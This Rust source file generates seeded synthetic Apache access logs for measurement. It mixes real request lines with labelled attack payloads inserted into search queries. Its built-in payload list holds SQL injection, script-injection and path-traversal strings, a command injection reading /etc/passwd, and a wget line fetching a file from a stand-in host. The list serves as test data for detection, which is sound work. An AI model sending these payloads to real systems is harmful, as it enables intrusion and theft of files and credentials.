//! Logs for measuring: honest lines from a real log with new addresses and times, and among them
//! attacks from labelled payloads. Seeded: the same arguments make the same bytes.

use std::fs::{self, File};
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};

use anyhow::{Context, Result, ensure};
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};

/// Honest lines for a machine without samples.
const HONEST: &str = include_str!("honest.log");
const PAYLOADS: [&str; 8] = [
    "1' union select user,password from users-- ",
    "' or '1'='1",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    ";cat /etc/passwd",
    "| wget http://192.0.2.1/x -O /tmp/x",
];

/// What a log is made from.
pub struct Samples {
    honest: Vec<Row>,
    payloads: Vec<String>,
    /// Where it came from, for the report.
    pub about: String,
}

struct Row {
    method: String,
    target: String,
    rest: String,
}

/// Which log to make.
#[derive(Clone, Copy)]
pub struct Recipe {
    pub bytes: u64,
    /// Attacks per ten thousand lines.
    pub attacks: u32,
    /// Every address unlike every other, as session and tracking parameters make them.
    pub unlike: bool,
    pub seed: u64,
}

impl Samples {
    /// From a folder that holds `apache-combined-real.log` and `http-params.jsonl`, at any depth.
    pub fn read(folder: Option<&Path>) -> Result<Self> {
        let Some(folder) = folder else {
            return Ok(Self {
                honest: rows(HONEST),
                payloads: PAYLOADS.map(str::to_owned).to_vec(),
                about: "invented sample lines".into(),
            });
        };
        let log = find(folder, "apache-combined-real.log", 0)
            .with_context(|| format!("no apache-combined-real.log below {}", folder.display()))?;
        let lists = find(folder, "http-params.jsonl", 0)
            .with_context(|| format!("no http-params.jsonl below {}", folder.display()))?;
        let mut payloads = Vec::new();
        for row in fs::read_to_string(lists)?.lines() {
            let row: serde_json::Value = serde_json::from_str(row)?;
            if row.get("label").is_some_and(|l| l == "attack")
                && let Some(payload) = row.get("payload").and_then(|p| p.as_str())
            {
                payloads.push(payload.to_owned());
            }
        }
        let honest = rows(&String::from_utf8_lossy(&fs::read(log)?));
        ensure!(!honest.is_empty() && !payloads.is_empty(), "empty samples");
        let about = format!(
            "{} real lines, {} labelled payloads",
            honest.len(),
            payloads.len()
        );
        Ok(Self {
            honest,
            payloads,
            about,
        })
    }

    /// Writes a log; says how many lines it has.
    pub fn write(&self, to: &Path, recipe: Recipe) -> Result<u64> {
        let mut chance = StdRng::seed_from_u64(recipe.seed);
        let mut out = BufWriter::with_capacity(1 << 20, File::create(to)?);
        // One source sends about twenty lines in a mebibyte-sized neighbourhood, as browsers do.
        let sources: Vec<[u8; 4]> = (0..recipe.bytes / 5_000 + 8)
            .map(|_| chance.random())
            .collect();
        let (mut written, mut lines, mut line) = (0, 0, String::new());
        while written < recipe.bytes {
            let near = usize::try_from(written / 5_000)? + chance.random_range(0..8);
            let [a, b, c, d] = sources.get(near).copied().unwrap_or([192, 0, 2, 1]);
            let row = self.honest.get(chance.random_range(0..self.honest.len()));
            let row = row.context("a line")?;
            line.clear();
            line.push_str(&format!("{a}.{b}.{c}.{d} - - [{}] \"", stamp(lines / 8)));
            if chance.random_ratio(recipe.attacks, 10_000) {
                let payload = self
                    .payloads
                    .get(chance.random_range(0..self.payloads.len()));
                line.push_str("GET /search?q=");
                encode(payload.map_or("", String::as_str), &mut line);
            } else {
                line.push_str(&row.method);
                line.push(' ');
                line.push_str(&row.target);
            }
            if recipe.unlike {
                let mark = if line.contains('?') { '&' } else { '?' };
                line.push_str(&format!("{mark}_={}", chance.random::<u64>()));
            }
            line.push(' ');
            line.push_str(&row.rest);
            line.push('\n');
            out.write_all(line.as_bytes())?;
            (written, lines) = (written + line.len() as u64, lines + 1);
        }
        out.flush()?;
        Ok(lines)
    }
}

fn rows(text: &str) -> Vec<Row> {
    let row = |line: &str| {
        let (_, request) = line.split_once("] \"")?;
        let (method, rest) = request.split_once(' ')?;
        let (target, rest) = rest.split_once(" HTTP/")?;
        Some(Row {
            method: method.to_owned(),
            target: target.to_owned(),
            rest: format!("HTTP/{rest}"),
        })
    };
    text.lines().filter_map(row).collect()
}

/// `17/May/2015:10:05:03 +0000`, so many seconds after the first instant.
fn stamp(seconds: u64) -> String {
    let (day, s) = (17 + seconds / 86_400 % 14, seconds % 86_400);
    format!(
        "{day:02}/May/2015:{:02}:{:02}:{:02} +0000",
        s / 3600,
        s / 60 % 60,
        s % 60
    )
}

fn encode(payload: &str, into: &mut String) {
    for b in payload.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            into.push(char::from(b));
        } else {
            into.push_str(&format!("%{b:02X}"));
        }
    }
}

fn find(folder: &Path, name: &str, depth: usize) -> Option<PathBuf> {
    let mut entries: Vec<PathBuf> = fs::read_dir(folder)
        .ok()?
        .filter_map(|e| Some(e.ok()?.path()))
        .collect();
    entries.sort();
    entries.iter().find_map(|path| {
        if path.is_dir() && depth < 6 {
            find(path, name, depth + 1)
        } else {
            (path.file_name()? == name).then(|| path.clone())
        }
    })
}
